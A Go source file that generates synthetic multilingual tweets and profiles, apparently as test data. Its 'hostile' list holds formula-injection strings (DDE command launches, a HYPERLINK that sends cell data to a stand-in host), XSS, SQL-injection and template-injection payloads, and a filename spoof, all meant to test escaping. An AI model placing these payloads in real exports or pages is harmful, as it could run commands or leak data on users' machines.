package synth

import "strings"

// vocabulary is what a language's tweets and profiles are put together from. A
// sentence is an opener, a subject, a predicate and a closer: a hundred
// thousand and more to a language, and at least two of them where no link or
// number makes a text one of a kind.
type vocabulary struct {
	// code is the tweet_language; profile the account_language.
	code, profile string
	// space stands between words, stop ends a sentence.
	space, stop string

	openers, subjects, predicates, closers []string
	given, family, places, bios, tags      []string
}

func (v *vocabulary) name(r *source) string {
	if r.IntN(5) == 0 {
		return choose(r, v.given) + v.space + choose(r, v.family) + " " + choose(r, emoji)
	}
	return choose(r, v.given) + v.space + choose(r, v.family)
}

// bio is a self-description; what it holds besides plain words is what breaks
// careless readers and viewers.
func (v *vocabulary) bio(r *source) string {
	b := choose(r, v.bios)
	switch r.IntN(12) {
	case 0:
		b += "\n" + choose(r, v.bios) + "\r\n" + choose(r, v.places)
	case 1:
		b = `"` + b + `", ` + choose(r, v.places)
	case 2:
		b += " " + choose(r, emoji) + choose(r, emoji)
	case 3:
		b = choose(r, hostile)
	}
	return b
}

func list(s string) []string { return strings.Split(s, "|") }

func choose(r *source, from []string) string { return from[r.IntN(len(from))] }

// hostile are strings that attack whoever shows or exports them unescaped.
// All of them are data here and harmless as such.
var hostile = []string{
	`=HYPERLINK("http://example.invalid/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`"><svg/onload=alert(1)>`,
	`javascript:alert(1)`,
	`'; DROP TABLE tweets; --`,
	`{{7*7}} ${7*7} <%= 7*7 %>`,
	"Z̸̢̛͓a̷͕̎l̶̰̈́g̵̱͝o̸͇͝ t̷e̴x̶t̷",
	"\u202Egnp.exe\u202C evil",
	"\u200B\u200Czero\u200Dwidth\uFEFF",
	"[a, b] ['c', 'd'], \"e\"",
	`C:\new\table, \N, \", \\`,
	"NULL",
}

var emoji = list("😀|😂|🤣|😍|👍|🙏|🔥|❤️|🇨🇳|🇷🇺|🇹🇷|🇭🇰|👨‍👩‍👧‍👦|👩🏽‍⚕️|💪🏿|✊|🌹|🎉|☕️|🤔")

// domains are drawn with a heavy tail: the first ones most.
var domains = list("www.youtube.com|youtu.be|twitter.com|www.facebook.com|bit.ly|www.instagram.com|news.example.com|" +
	"www.bbc.com|rt.com|www.xinhuanet.com|english.cctv.example|t.me|vk.com|www.hurriyet.example.tr|sabah.example.tr|" +
	"www.sozcu.example.tr|tass.example.ru|ria.example.ru|www.people.example.cn|weibo.example.cn|chinadaily.example.cn|" +
	"scmp.example.hk|www.nytimes.com|edition.cnn.com|medium.com|goo.gl|ow.ly|dlvr.it|ift.tt|www.boxun.example|" +
	"blog.example.org|xn--80ak6aa92e.example|пример.example|例子.example|a.b.c.example.co.uk")

var clients = list("Twitter Web Client|Twitter for Android|Twitter for iPhone|Twitter Web App|TweetDeck|Twitter Lite|" +
	"Mobile Web (M2)|twitterfeed|IFTTT|Hootsuite|dlvr.it|Twitter for iPad|Buffer|皮皮时光机|Twitter for Websites|Instagram|" +
	"Facebook|Botize|\"quoted, client\"|Twibble.io")

var vocabularies = map[string]*vocabulary{
	"zh": {
		code: "zh", profile: "zh-cn", space: "", stop: "。",
		openers:    list("今天|昨天|刚刚|据报道|最近|有消息说|大家注意|说实话|我认为|据说|早上好|周末|转发|终于|事实上|其实|总的来说|朋友告诉我|这几天|不得不说|看到新闻|听说|难怪|无论如何|去年这个时候|下午|回头看"),
		subjects:   list("我们的城市|这家公司|年轻人|老百姓|海外媒体|那位老师|新的政策|这部电影|经济学家|隔壁的邻居|网友们|足球队|火车站|大学生|小区的居民|股票市场|手机用户|这场比赛|我妈妈|医院里的护士|主持人|科学家|摄影师|出租车司机|厨师|记者|快递员"),
		predicates: list("又一次让人惊讶|正在慢慢变好|终于公布了结果|需要更多的耐心|引起了广泛讨论|带来了很多机会|仍然面临困难|受到大家的欢迎|没有说出全部真相|决定重新开始|比想象中更复杂|给我留下深刻印象|下个月会有变化|已经超过了预期|值得我们学习|让人哭笑不得|正在接受调查|打破了去年的纪录|每天都在进步|忘记了最重要的事|邀请大家参加|拒绝回答这个问题|准备好了迎接挑战|在网上走红|从来没有放弃|引来不少批评|成为热门话题"),
		closers:    list("你怎么看|大家一起加油|真是太好了|让时间证明一切|未来可期|支持|必须点赞|令人深思|不要轻易相信|请继续关注|祝大家平安|明天会更好|太感动了|真不容易|不服不行|拭目以待|希望如此|说得好|有图有真相|谁能告诉我为什么|欢迎讨论|哈哈哈|无语了|转给更多的人看|值得收藏|与君共勉"),
		given:      list("伟|芳|娜|敏|静|丽|强|磊|军|洋|勇|艳|杰|娟|涛|明|超|秀兰|霞|平"),
		family:     list("王|李|张|刘|陈|杨|赵|黄|周|吴|徐|孙|胡|朱|高|林|何|郭|马|罗"),
		places:     list("北京|上海|广州|深圳|成都|武汉|杭州, 中国|China|西安|地球"),
		bios:       list("热爱生活，喜欢旅行|关注时事|互粉|一个普通人|独立思考，理性讨论|IT从业者, 爱好摄影|分享正能量|美食与电影|只说真话|我的世界你不懂"),
		tags:       list("新闻|中国|香港|生活|音乐|旅行|美食|经济|科技|足球|摄影|电影|读书|健康|教育|天气|股市|晚安|正能量|互粉"),
	},
	"zh-tw": {
		code: "zh", profile: "zh-tw", space: "", stop: "。",
		openers:    list("今天|昨天|剛剛|據報導|最近|有消息說|大家注意|說實話|我認為|據說|早安|週末|轉發|終於|事實上|其實|總的來說|朋友告訴我|這幾天|不得不說|看到新聞|聽說|難怪|無論如何|去年這個時候|下午|回頭看"),
		subjects:   list("我們的城市|這家公司|年輕人|老百姓|海外媒體|那位老師|新的政策|這部電影|經濟學家|隔壁的鄰居|網友們|棒球隊|捷運站|大學生|社區的居民|股票市場|手機用戶|這場比賽|我媽媽|醫院裡的護士|主持人|科學家|攝影師|計程車司機|廚師|記者|快遞員"),
		predicates: list("又一次讓人驚訝|正在慢慢變好|終於公布了結果|需要更多的耐心|引起了廣泛討論|帶來了很多機會|仍然面臨困難|受到大家的歡迎|沒有說出全部真相|決定重新開始|比想像中更複雜|給我留下深刻印象|下個月會有變化|已經超過了預期|值得我們學習|讓人哭笑不得|正在接受調查|打破了去年的紀錄|每天都在進步|忘記了最重要的事|邀請大家參加|拒絕回答這個問題|準備好迎接挑戰|在網路上爆紅|從來沒有放棄|引來不少批評|成為熱門話題"),
		closers:    list("你怎麼看|大家一起加油|真是太好了|讓時間證明一切|未來可期|支持|一定要按讚|令人深思|不要輕易相信|請繼續關注|祝大家平安|明天會更好|太感動了|真不容易|不服不行|拭目以待|希望如此|說得好|有圖有真相|誰能告訴我為什麼|歡迎討論|哈哈哈|無言|轉給更多人看|值得收藏|與君共勉"),
		given:      list("志明|春嬌|家豪|淑芬|俊傑|雅婷|怡君|建宏|美玲|文雄|佩珊|子軒|詠詩|浩然|嘉欣"),
		family:     list("陳|林|黃|張|李|王|吳|劉|蔡|楊|許|鄭|謝|洪|郭|歐陽"),
		places:     list("香港|臺北|九龍|高雄|新界, 香港|Hong Kong|Taiwan|臺中"),
		bios:       list("熱愛生活，喜歡旅行|關心時事|一個普通的香港人|獨立思考，理性討論|愛好攝影與咖啡|美食與電影|只說真話|願榮光|貓奴一枚|隨緣"),
		tags:       list("新聞|香港|生活|音樂|旅行|美食|經濟|科技|棒球|攝影|電影|閱讀|健康|教育|天氣|股市|晚安|臺灣|貓|咖啡"),
	},
	"en": {
		code: "en", profile: "en", space: " ", stop: ". ",
		openers:    list("Today|Yesterday|Breaking:|Honestly,|This week|According to reports,|I think|Believe it or not,|Good morning!|Once again|In fact,|Finally|My friend says|Sources say|Just saw that|Everyone knows|No wonder|As expected,|For the first time|Last night|At the end of the day,|Look:|Remember when|Rumour has it|Meanwhile,|Funny how|To be fair,"),
		subjects:   list("the city|this company|young people|ordinary families|foreign media|that teacher|the new policy|this movie|economists|my neighbour|people online|the football team|the train station|students|local residents|the stock market|phone users|the final match|my mother|nurses at the hospital|the host|scientists|a photographer|the taxi driver|the chef|a journalist|the delivery guy"),
		predicates: list("surprised everyone again|is slowly getting better|has published the results|needs a lot more patience|started a big discussion|brings many new chances|is still in trouble|deserves more attention|did not tell the whole truth|decided to start over|is more complex than you think|left a deep impression on me|will change next month|has beaten all expectations|is worth learning from|makes me laugh and cry|is under investigation|broke last year's record|gets better every day|forgot what matters most|invites you to take part|refused to answer|is ready for the challenge|went viral|never gave up|drew a lot of criticism|is trending now"),
		closers:    list("what do you think?|let's go|great news|time will tell|the future is bright|full support|must read|think about it|don't believe everything|stay tuned|stay safe|tomorrow will be better|so touching|not easy at all|you can't deny it|let's wait and see|I hope so|well said|pics or it didn't happen|can anyone explain?|discuss|lol|speechless|please share|worth saving|good luck to all"),
		given:      list("James|Mary|John|Linda|Robert|Susan|Mike|Karen|David|Lisa|Paul|Nancy|Mark|Betty|Steve|Sandra"),
		family:     list("Smith|Johnson|Brown|O'Neil|Miller|Davis|Wilson|Moore|Taylor|Anderson|Thomas|Jackson|White|Harris|Martin"),
		places:     list("USA|London, UK|New York, NY|Texas|Earth|Hong Kong|Chicago, IL|California|\"somewhere\"|Paris"),
		bios:       list("Dad, husband, coffee lover|Just a normal person with opinions|Views are my own|Love to travel, love to cook|Truth seeker|Photographer & dreamer|News junkie. RTs are not endorsements|Student of life|Cat person|Patriot"),
		tags:       list("news|China|HongKong|USA|life|music|travel|food|economy|tech|football|photography|movies|books|health|education|weather|stocks|MAGA|followback"),
	},
	"ru": {
		code: "ru", profile: "ru", space: " ", stop: ". ",
		openers:    list("Сегодня|Вчера|Срочно:|Честно говоря,|На этой неделе|По данным СМИ,|Я думаю,|Верите или нет,|Доброе утро!|Снова|На самом деле|Наконец|Друг рассказал:|Источники сообщают:|Только что узнал:|Все знают, что|Неудивительно, что|Как и ожидалось,|Впервые|Прошлой ночью|В конце концов|Смотрите:|Помните, как|Говорят,|Тем временем|Забавно, что|Кстати,"),
		subjects:   list("наш город|эта компания|молодёжь|простой народ|западная пресса|учительница|новый закон|этот фильм|экономист|мой сосед|интернет|сборная|вокзал|студент|местный житель|рынок|оператор связи|финальный матч|моя мама|медсестра|ведущий|учёный|фотограф|таксист|повар|журналист|курьер"),
		predicates: list("опять всех удивил|потихоньку меняется|публикует результаты|требует терпения|вызывает споры|даёт новые шансы|всё ещё в беде|заслуживает внимания|не говорит всей правды|начинает всё сначала|сложнее, чем кажется|производит впечатление|ждёт перемен|превосходит ожидания|учит нас многому|заставляет смеяться и плакать|под следствием|бьёт прошлогодний рекорд|растёт каждый день|забывает о главном|приглашает всех|отказывается отвечать|принимает вызов|взрывает сеть|не сдаётся|получает много критики|снова в тренде"),
		closers:    list("что думаете?|вперёд!|отличная новость|время покажет|будущее за нами|поддерживаю|всем читать|есть о чём подумать|не верьте всему|следите за новостями|берегите себя|завтра будет лучше|до слёз|непросто|не поспоришь|поживём — увидим|надеюсь|хорошо сказано|фото прилагается|кто объяснит?|обсуждаем|ахаха|нет слов|репост|сохраните себе|всем удачи"),
		given:      list("Иван|Мария|Алексей|Елена|Дмитрий|Ольга|Сергей|Наталья|Андрей|Татьяна|Михаил|Ирина|Николай|Светлана"),
		family:     list("Иваненко|Петренко|Соколов|Кузнец|Попович|Лебедь|Козлович|Новик|Мороз|Волк|Павлюк|Семёнов|Голуб|Виноград"),
		places:     list("Москва|Санкт-Петербург|Россия|Казань|Сочи, Россия|Новосибирск|Екатеринбург|СССР|Крым|Планета Земля"),
		bios:       list("Люблю Родину и котов|Просто хороший человек|Мнение личное|Путешествую, готовлю, читаю|За правду!|Фотограф и мечтатель|Новости, политика, юмор|Вечный студент|Патриот|Всё будет хорошо"),
		tags:       list("новости|Россия|Москва|жизнь|музыка|путешествия|еда|экономика|технологии|футбол|фото|кино|книги|здоровье|образование|погода|политика|США|Украина|Сирия"),
	},
	"tr": {
		code: "tr", profile: "tr", space: " ", stop: ". ",
		openers:    list("Bugün|Dün|Son dakika:|Açıkçası|Bu hafta|Haberlere göre|Bence|İster inanın ister inanmayın|Günaydın!|Bir kez daha|Aslında|Nihayet|Arkadaşım diyor ki|Kaynaklara göre|Az önce gördüm:|Herkes biliyor:|Şaşırmadık,|Beklendiği gibi|İlk defa|Dün gece|Sonuçta|Bakın:|Hatırlarsınız,|Söylentiye göre|Bu arada|Ne garip,|Doğrusu"),
		subjects:   list("şehrimiz|bu şirket|gençlik|halkımız|yabancı basın|öğretmenimiz|yeni yasa|bu film|iktisatçılar|komşumuz|sosyal medya|milli takım|tren garı|öğrenciler|mahalle sakinleri|borsa|telefon kullanıcıları|final maçı|annem|hemşireler|sunucu|bilim insanları|fotoğrafçı|taksici|aşçı|gazeteci|kurye"),
		predicates: list("yine herkesi şaşırttı|yavaş yavaş düzeliyor|sonuçları açıkladı|sabır istiyor|tartışma yarattı|yeni fırsatlar getiriyor|hâlâ zor durumda|ilgiyi hak ediyor|gerçeğin tamamını söylemedi|yeniden başlıyor|sanıldığından karmaşık|bende iz bıraktı|gelecek ay değişecek|beklentileri aştı|örnek olmalı|hem güldürüyor hem ağlatıyor|soruşturuluyor|geçen yılın rekorunu kırdı|her gün gelişiyor|en önemli şeyi unuttu|herkesi davet ediyor|cevap vermedi|mücadeleye hazır|gündem oldu|asla vazgeçmedi|çok eleştirildi|yine zirvede"),
		closers:    list("siz ne dersiniz?|haydi bakalım|harika haber|zaman gösterecek|gelecek bizim|destekliyorum|mutlaka okuyun|düşünmek lazım|her şeye inanmayın|takipte kalın|kendinize iyi bakın|yarın daha iyi olacak|çok duygulandım|kolay değil|inkâr edilemez|bekleyip görelim|inşallah|ağzına sağlık|fotoğraf burada|biri açıklasın|tartışalım|hahaha|söz bitti|paylaşın|kaydedin|hayırlısı olsun"),
		given:      list("Mehmet|Ayşe|Mustafa|Fatma|Ahmet|Emine|Ali|Hatice|Hüseyin|Zeynep|Hasan|Elif|İbrahim|Merve|Çağrı|Gülşen"),
		family:     list("Yılmaz|Kaya|Demir|Şahin|Çelik|Yıldız|Öztürk|Aydın|Özdemir|Arslan|Doğan|Kılıç|Çetin|Koç"),
		places:     list("İstanbul|Ankara|Türkiye|İzmir|Konya, Türkiye|Trabzon|Kayseri|Bursa|Diyarbakır|Dünya"),
		bios:       list("Vatan sevdalısı|Kendi halinde biri|Çay, kitap, deniz|Takip edene takip|Doğruya doğru|Fotoğraf ve yollar|Gündem, siyaset, mizah|Öğretmen, anne|Ne mutlu Türk'üm diyene|Sabır"),
		tags:       list("gündem|türkiye|hayat|müzik|seyahat|yemek|ekonomi|teknoloji|futbol|fotoğraf|sinema|kitap|sağlık|eğitim|hava|borsa|galatasaray|fenerbahçe|beşiktaş|ankara"),
	},
	"ar": {
		code: "ar", profile: "ar", space: " ", stop: ". ",
		openers:    list("اليوم|أمس|عاجل:|بصراحة|هذا الأسبوع|حسب التقارير|أعتقد أن|صدق أو لا تصدق|صباح الخير|مرة أخرى|في الواقع|أخيرا|يقول صديقي|تقول المصادر|رأيت للتو|الجميع يعرف|لا عجب|كما كان متوقعا|لأول مرة|الليلة الماضية|في النهاية|انظروا|تذكرون|يقال|في هذه الأثناء|من الغريب"),
		subjects:   list("المدينة|هذه الشركة|الشباب|الناس|الصحافة الأجنبية|المعلم|القانون الجديد|هذا الفيلم|الخبراء|جارنا|مواقع التواصل|المنتخب|المحطة|الطلاب|سكان الحي|السوق|المستخدمون|المباراة النهائية|أمي|الممرضات|المذيع|العلماء|المصور|السائق|الطباخ|الصحفي"),
		predicates: list("فاجأ الجميع|يتحسن ببطء|أعلن النتائج|يحتاج إلى الصبر|أثار الجدل|يمنح فرصا جديدة|ما زال في أزمة|يستحق الاهتمام|لم يقل كل الحقيقة|بدأ من جديد|أعقد مما نظن|ترك أثرا عميقا|سيتغير الشهر القادم|تجاوز التوقعات|درس لنا جميعا|يضحك ويبكي|قيد التحقيق|حطم الرقم القياسي|يتقدم كل يوم|نسي الأهم|يدعو الجميع|رفض الجواب|مستعد للتحدي|انتشر بسرعة|لم يستسلم|تعرض للنقد"),
		closers:    list("ما رأيكم؟|هيا بنا|خبر رائع|الأيام ستثبت|المستقبل لنا|أؤيد|اقرأوا هذا|فكروا قليلا|لا تصدقوا كل شيء|تابعونا|حفظكم الله|غدا أفضل|مؤثر جدا|ليس سهلا|لا ينكر|سنرى|إن شاء الله|أحسنت|بالصور|من يشرح؟|للنقاش|ههههه|بلا تعليق|انشروا|احفظوه|بالتوفيق"),
		given:      list("محمد|فاطمة|أحمد|عائشة|علي|مريم|عمر|زينب|خالد|نور"),
		family:     list("الأحمد|الحسن|العلي|المصري|الشامي|الخطيب|النجار|الحلبي|العمري|الصالح"),
		places:     list("دمشق|القاهرة|الرياض|إسطنبول|بيروت, لبنان|الأردن|العراق|تونس|حلب|الأرض"),
		bios:       list("الحمد لله دائما|رأيي يمثلني|محب للقراءة والسفر|صحفي مستقل|إنسان بسيط|قهوة وكتاب|لا إله إلا الله|طالب علم|الحقيقة أولا|وطني حبيبي"),
		tags:       list("أخبار|سوريا|حياة|موسيقى|سفر|طعام|اقتصاد|تقنية|كرة_قدم|صور|سينما|كتب|صحة|تعليم|طقس"),
	},
	"th": {
		code: "th", profile: "th", space: "", stop: " ",
		openers:    list("วันนี้|เมื่อวาน|ด่วน|พูดตรงๆ|สัปดาห์นี้|ตามข่าว|ฉันคิดว่า|เชื่อหรือไม่|สวัสดีตอนเช้า|อีกครั้ง|จริงๆแล้ว|ในที่สุด|เพื่อนบอกว่า|แหล่งข่าวว่า|เพิ่งเห็นว่า|ใครๆก็รู้|ไม่แปลก|ตามคาด|ครั้งแรก|เมื่อคืน|สุดท้าย|ดูสิ|จำได้ไหม|ลือกันว่า|ระหว่างนี้|แปลกดี"),
		subjects:   list("เมืองของเรา|บริษัทนี้|วัยรุ่น|ชาวบ้าน|สื่อต่างชาติ|คุณครู|กฎหมายใหม่|หนังเรื่องนี้|นักวิชาการ|เพื่อนบ้าน|ชาวเน็ต|ทีมชาติ|สถานีรถไฟ|นักศึกษา|คนในซอย|ตลาดหุ้น|ผู้ใช้มือถือ|นัดชิง|แม่|พยาบาล|พิธีกร|นักวิทย์|ช่างภาพ|แท็กซี่|พ่อครัว|นักข่าว"),
		predicates: list("ทำให้ทุกคนแปลกใจ|ค่อยๆดีขึ้น|ประกาศผลแล้ว|ต้องใช้ความอดทน|กลายเป็นประเด็น|ให้โอกาสใหม่|ยังลำบาก|น่าสนใจ|ไม่ได้พูดความจริงทั้งหมด|เริ่มต้นใหม่|ซับซ้อนกว่าที่คิด|ประทับใจมาก|จะเปลี่ยนเดือนหน้า|เกินคาด|น่าเรียนรู้|ทั้งขำทั้งเศร้า|ถูกสอบสวน|ทำลายสถิติ|ดีขึ้นทุกวัน|ลืมเรื่องสำคัญ|เชิญทุกคน|ไม่ยอมตอบ|พร้อมสู้|ดังในเน็ต|ไม่เคยยอมแพ้|โดนวิจารณ์"),
		closers:    list("คิดว่าไง|สู้ๆ|ข่าวดี|เวลาจะพิสูจน์|อนาคตสดใส|สนับสนุน|ต้องอ่าน|น่าคิด|อย่าเชื่อง่ายๆ|ติดตามต่อ|ดูแลตัวเองด้วย|พรุ่งนี้จะดีกว่า|ซึ้ง|ไม่ง่ายเลย|ปฏิเสธไม่ได้|รอดู|หวังว่าอย่างนั้น|พูดดี|มีรูป|ใครก็ได้ช่วยบอกที|มาคุยกัน|555|พูดไม่ออก|ฝากแชร์|เก็บไว้|โชคดี"),
		given:      list("สมชาย|สมหญิง|ประเสริฐ|มาลี|วิชัย|นิภา|อนันต์|สุดา"),
		family:     list("ใจดี|แสนสุข|ทองคำ|ศรีสุข|บุญมา|รักไทย|มีทรัพย์|วงศ์ไทย"),
		places:     list("กรุงเทพ|เชียงใหม่|ประเทศไทย|ภูเก็ต|ขอนแก่น, ไทย|โลก"),
		bios:       list("คนธรรมดา|รักการเดินทาง|ชอบกินชอบเที่ยว|ติ่งเกาหลี|ขายของออนไลน์|แมว กาแฟ หนังสือ|ความเห็นส่วนตัว|ใช้ชีวิตให้สนุก"),
		tags:       list("ข่าว|ไทย|ชีวิต|เพลง|เที่ยว|อาหาร|หุ้น|บอล|รูป|หนัง|สุขภาพ|อากาศ"),
	},
}
